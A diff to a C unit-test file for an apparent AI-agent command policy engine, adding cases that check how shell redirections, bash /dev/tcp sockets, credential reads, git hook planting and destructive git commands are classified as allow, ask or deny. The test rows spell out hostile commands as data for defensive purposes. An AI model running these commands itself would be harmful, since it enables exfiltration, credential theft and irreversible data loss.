@@ -146,6 +146,29 @@ static void each_simple_command_is_judged(void **state)
 	check(rules, CALL(.tool = "python"), "{\"command\":\"ls\"}", "ask:1");
 }
 
+/* A rule about words does not allow what a redirection does beside them. */
+static void a_redirection_that_writes_is_more_than_its_command(void **state)
+{
+	(void)state;
+	static const char rules[] =
+			"- deny: a\n  when: {writes: '*/Makefile'}\n- allow: b\n  when: "
+			"{command: 'make *', writes: '*.log'}\n- allow: c\n  when: "
+			"{command: 'make *'}\n- deny: d\n  when: {form: 'cat ARG'}\n";
+	const struct agent_policy_call bash = CALL(.tool = "bash", .workspace = "/w");
+	check(rules, bash, "{\"command\":\"make all\"}", "allow:7");
+	check(rules, bash, "{\"command\":\"make all >/dev/null 2>&1\"}", "allow:7");
+	check(rules, bash, "{\"command\":\"make all >main.c\"}", "ask:1");
+	check(rules, bash, "{\"command\":\"make all >out.log\"}", "allow:5");
+	check(rules, bash, "{\"command\":\"make all <in\"}", "allow:7");
+	check(rules, bash, "{\"command\":\"cat a >Makefile\"}", "deny:3");
+	check(rules, bash, "{\"command\":\"cat a >b\"}", "deny:9");
+	check(rules, bash, "{\"command\":\"cat $x\"}", "deny:3");
+	check("- allow: a\n  when: {form: cat ARG}\n", bash, "{\"command\":\"cat a\"}", "allow:3");
+	check("- allow: a\n  when: {form: cat ARG}\n", bash, "{\"command\":\"cat a b\"}", "ask:1");
+	check("- allow: a\n  when: {form: cat ARG}\n", bash, "{\"command\":\"./cat a\"}", "ask:1");
+	check("- allow: a\n  when: {form: cat ARG}\n", bash, "{\"command\":\"cat a >b\"}", "ask:1");
+}
+
 static void paths_are_where_they_lead(void **state)
 {
 	(void)state;
@@ -273,6 +296,8 @@ struct row {
 };
 
 #define BASH(line) CALL(.tool = "bash", .workspace = "/w"), "{\"command\":\"" line "\"}"
+#define NETWORKED(line) \
+	{ .tool = "bash", .workspace = "/w", .network = "open" }, "{\"command\":\"" line "\"}"
 #define TOOL(name, args) CALL(.tool = name, .workspace = "/w"), args
 #define OPEN(...) \
 	(struct agent_policy_call) \
@@ -350,6 +375,72 @@ static const struct row rows[] = {
 	{ BASH("tar cf x.tar ../.gnupg/"), "deny", "credential", false },
 	{ BASH("cat /proc/1/environ"), "deny", "credential", false },
 	{ BASH("gpg --export-secret-keys"), "deny", "credential", false },
+	/* a redirection that writes, and the shell's own sockets */
+	{ BASH("echo leak >/dev/tcp/127.0.0.1/9"), "ask", "external", true },
+	{ BASH("cat a >/dev/udp/x/80"), "ask", "external", true },
+	{ BASH("cat </dev/tcp/x/80"), "ask", "external", true },
+	{ BASH("cd /dev; echo leak >tcp/x/80"), "ask", "external", true },
+	{ BASH("sort -u a >b"), "allow", "write", false },
+	{ NETWORKED("sort -u a >b"), "allow", "write", false },
+	{ NETWORKED("sort -u a"), "allow", "read", false },
+	{ NETWORKED("make >b"), "ask", "external", true },
+	{ BASH("ls 2>/dev/null"), "allow", "read", false },
+	{ BASH("cat /dev/null >main.c"), "ask", "irreversible", false },
+	{ BASH(": >main.c"), "ask", "irreversible", false },
+	/* only the forms that only read are read */
+	{ NETWORKED("uniq a src/main.c"), "ask", "external", true },
+	{ NETWORKED("sort -rox y"), "ask", "external", true },
+	{ NETWORKED("tree -aox"), "ask", "external", true },
+	{ NETWORKED("date-exfil x"), "ask", "external", true },
+	{ NETWORKED("./date"), "ask", "external", true },
+	{ NETWORKED("tree-sitter x"), "ask", "external", true },
+	{ NETWORKED("file -C -m x"), "ask", "external", true },
+	{ NETWORKED("git -C sub log"), "ask", "external", true },
+	{ NETWORKED("git diff --ext-diff"), "ask", "external", true },
+	{ NETWORKED("git log -p -3 --oneline -- src"), "allow", "read", false },
+	{ NETWORKED("date +%F"), "allow", "read", false },
+	{ BASH("sort --out=x y"), "ask", "irreversible", false },
+	{ BASH("sort --compress-prog=./x data"), "ask", "irreversible", false },
+	{ BASH("git difftool -y -x ./x HEAD"), "ask", "irreversible", false },
+	{ BASH("git -c core.fsmonitor=./x status"), "ask", "irreversible", false },
+	{ BASH("test -v 'a[$(id)]'"), "ask", "irreversible", false },
+	/* what cannot be undone */
+	{ BASH("git checkout ."), "ask", "irreversible", false },
+	{ BASH("git checkout -f"), "ask", "irreversible", false },
+	{ BASH("git checkout -q -b idea"), "allow", "write", false },
+	{ BASH("git switch main"), "allow", "write", false },
+	{ BASH("git switch -f main"), "ask", "irreversible", false },
+	{ BASH("git rm -rf ."), "ask", "irreversible", false },
+	{ BASH("git reset -q HEAD a"), "allow", "write", false },
+	{ BASH("git reset --har"), "ask", "irreversible", false },
+	{ BASH("git restore --staged a"), "allow", "write", false },
+	{ BASH("git restore a"), "ask", "irreversible", false },
+	{ BASH("mv a /dev/null"), "ask", "irreversible", false },
+	{ BASH("cp /dev/null a"), "ask", "irreversible", false },
+	{ BASH("busybox rm x"), "ask", "irreversible", false },
+	{ BASH("python3 -mpip install x"), "ask", "external", true },
+	{ BASH("python3 -Im pip install x"), "ask", "external", true },
+	{ BASH("python3 -m unittest -q"), "allow", "write", false },
+	/* what the person's own programs obey */
+	{ BASH("echo x >.git/hooks/pre-commit"), "ask", "irreversible", false },
+	{ BASH("cd .git/hooks; tee pre-commit"), "ask", "irreversible", false },
+	{ BASH("cp hooks/* .g?t/hooks"), "ask", "irreversible", false },
+	{ BASH("cat .git/config"), "allow", "read", false },
+	{ BASH("git config core.fsmonitor ./x"), "ask", "irreversible", false },
+	{ BASH("git config user.name Ann"), "allow", "write", false },
+	{ BASH("git init --template=x"), "ask", "irreversible", false },
+	{ BASH("git init -q"), "allow", "write", false },
+	{ TOOL("write_file", "{\"path\":\".git/hooks/pre-commit\"}"), "ask", "irreversible",
+			false },
+	{ TOOL("write_file", "{\"path\":\"sub/.git\"}"), "ask", "irreversible", false },
+	{ TOOL("write_file", "{\"path\":\".gitignore\"}"), "allow", "write", false },
+	{ TOOL("text_editor", "{\"command\":\"create\",\"path\":\".git/config\"}"), "ask",
+			"irreversible", false },
+	{ TOOL("text_editor", "{\"command\":\"view\",\"path\":\".git/config\"}"), "allow", "read",
+			false },
+	{ TOOL("write_file", "{\"path\":\"../x/.git/config\"}"), "deny", "irreversible", false },
+	{ TOOL("python", "{\"code\":\"open('.git/hooks/x', 'w')\"}"), "ask", "irreversible",
+			false },
 	/* what a shell makes of patterns, and where it is */
 	{ BASH("cat ../.ss?/id_rs?"), "deny", "credential", false },
 	{ BASH("cat ../.s*/*"), "deny", "credential", false },
@@ -462,6 +553,7 @@ int main(void)
 		cmocka_unit_test(what_is_not_known_denies_and_does_not_allow),
 		cmocka_unit_test(arguments_and_applications_are_matched),
 		cmocka_unit_test(each_simple_command_is_judged),
+		cmocka_unit_test(a_redirection_that_writes_is_more_than_its_command),
 		cmocka_unit_test(paths_are_where_they_lead),
 		cmocka_unit_test(amounts_are_compared),
 		cmocka_unit_test(limits_are_used_up),
